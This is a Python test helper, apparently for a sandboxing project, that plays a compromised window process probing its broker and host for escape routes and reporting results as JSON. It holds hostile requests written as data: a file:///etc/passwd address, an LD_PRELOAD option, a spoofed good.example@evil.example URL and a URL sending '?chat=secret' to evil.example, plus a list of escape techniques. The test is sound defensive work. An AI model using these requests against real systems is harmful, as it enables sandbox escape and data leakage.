"""A window that has been taken over: it tries everything against its porter, then tells the test.

It is sealed as the real window is, because the sealing comes before anything that could be taken
over. Its results go to the standard output as JSON.
"""

import contextlib
import errno
import json
import os
import socket
import sys
from pathlib import Path

from app.own_socket import short_name
from runner.channel import packets
from runner.child.begin import begin_front_end

ROUTES = (
    "tcp4", "tcp6", "udp4", "tcp fast open", "mptcp", "raw packet", "netlink", "vsock", "raw call",
    "io_uring", "program", "fork", "spawn", "new process by clone3", "ptrace parent", "read parent",
    "write parent", "memory of parent", "environment of parent", "descriptors of parent",
    "signal parent", "signal everyone", "signal by thread", "namespace of parent",
    "limits of parent", "processors of parent", "signal by a descriptor",
    "steal a descriptor", "new network namespace", "new user namespace", "mount", "bpf",
    "outlive the parent", "type into the terminal", "undo seccomp",
)  # fmt: skip

REQUESTS = {
    "unlisted program": {"type": "Start", "number": 1, "kind": "/bin/true", "readable": [], "writable": [], "options": {}},
    "another window": {"type": "Start", "number": 2, "kind": "window", "readable": [], "writable": [], "options": {}},
    "its own confirmation": {"type": "Start", "number": 3, "kind": "confirm", "readable": [], "writable": [], "options": {}},
    "a command": {"type": "Run", "number": 4, "command": "/bin/true"},
    "options of a program": {"type": "Start", "number": 5, "kind": "echo", "readable": [], "writable": [], "options": {"LD_PRELOAD": "/x"}},
    "extra fields": {"type": "Start", "number": 6, "kind": "echo", "readable": [], "writable": [], "options": {}, "environment": {}},
    "relative path": {"type": "Start", "number": 7, "kind": "echo", "readable": ["../x"], "writable": [], "options": {}},
    "a folder to write in": {"type": "Start", "number": 12, "kind": "echo", "readable": [], "writable": ["/tmp"], "options": {}},
    "file address": {"type": "OpenAddress", "number": 8, "url": "file:///etc/passwd"},
    "script address": {"type": "OpenAddress", "number": 9, "url": "javascript:alert(1)"},
    "user in address": {"type": "OpenAddress", "number": 10, "url": "https://good.example@evil.example/"},
    "option as address": {"type": "OpenAddress", "number": 11, "url": "--help"},
    "a file as a folder": {"type": "OpenFolder", "number": 13, "path": "/etc/passwd"},
    "another Hub in the clear": {"type": "Start", "number": 14, "kind": "gate", "readable": [], "writable": [], "options": {"hub": "http://evil.example"}},
    "the token for an engine": {"type": "Start", "number": 15, "kind": "echo", "readable": [], "writable": [], "options": {"token": "keyring"}},
    "signal to others": {"type": "End", "number": 1, "hard": True},
}  # fmt: skip


ANOTHER_HUB = {
    **REQUESTS["another Hub in the clear"],
    "number": 30,
    "options": {"hub": "https://hub.example"},
}
"""What the porter asks the person about."""


def main() -> int:
    begin_front_end()
    from tests.support import routes

    table = routes.table(routes.Targets())
    results = {name: routes.outcome(table[name]) for name in ROUTES}
    for exchange in filter(None, os.environ.get("TEST_EXCHANGES", "").split(";")):
        what, where = exchange.split(">")
        os.link(what, f"{where}.new")
        Path(f"{where}.new").replace(where)
    listeners = [_take(name) for name in filter(None, [os.environ.get("TEST_TAKES")])]
    for call in filter(None, os.environ.get("TEST_SIGNALS", "").split(";")):
        results[f"signal {call}"] = _signal(*map(int, call.split(":")))
    for place in filter(None, os.environ.get("TEST_PLACES", "").split(";")):
        results[f"local {place}"] = _connect(place)
    porter = socket.socket(fileno=int(os.environ["LIGHTWELL_PORTER_FD"]))
    porter.settimeout(5)
    for name, request in REQUESTS.items():
        if name != "signal to others":
            results[name] = _answer(porter, json.dumps(request).encode())
    results["noise"] = _answer(porter, b"\xff" * 1000)
    results["nesting"] = _answer(porter, b"[" * 100_000)
    results["own address"] = _answer(
        porter, b'{"type": "OpenAddress", "number": 20, "url": "https://evil.example/?chat=secret"}'
    )
    for listener in listeners:
        results["knocks"] = results["heard"] = ""
        results["another Hub"] = _answer(porter, json.dumps(ANOTHER_HUB).encode())
        listener.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                with listener.accept()[0] as knock:
                    knock.settimeout(5)
                    results["knocks"] += "."
                    results["heard"] += knock.recv(100).decode()
        listener.close()
    print(json.dumps(results))
    return 0


def _take(name: str) -> socket.socket:
    """Listens at a name, an abstract one where it begins with `@`."""
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0" + name[1:] if name.startswith("@") else name)
    listener.listen()
    return listener


def _connect(place: str) -> str:
    """Connects to a local service and says something.

    `@` stands for an abstract name's first byte, `=` for a name that is taken as it is.
    """
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as speaker:
        try:
            if place.startswith("="):
                speaker.connect(place[1:])
            elif place.startswith("@"):
                speaker.connect("\0" + place[1:])
            else:
                with short_name(Path(place)) as name:
                    speaker.connect(name)
            speaker.sendall(b"from the window")
        except OSError as error:
            return errno.errorcode.get(error.errno or 0, str(error))
    return "open"


def _signal(pid: int, number: int) -> str:
    try:
        os.kill(pid, number)
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "done"


def _answer(porter: socket.socket, request: bytes) -> str:
    """Sends a request and returns the kind and code of the answer to it."""
    packets.send(porter, request)
    while True:
        packet = packets.Inbox(porter, 1 << 20).receive()
        assert packet is not None, "the porter hung up"
        fields = json.loads(packet.data)
        if fields["type"] in ("NotDone", "Started"):
            return f"{fields['type']} {fields.get('code', '')}".strip()
        if fields["type"] == "AddressAnswer":
            return "opened" if fields["opened"] else "declined"


if __name__ == "__main__":
    sys.exit(main())
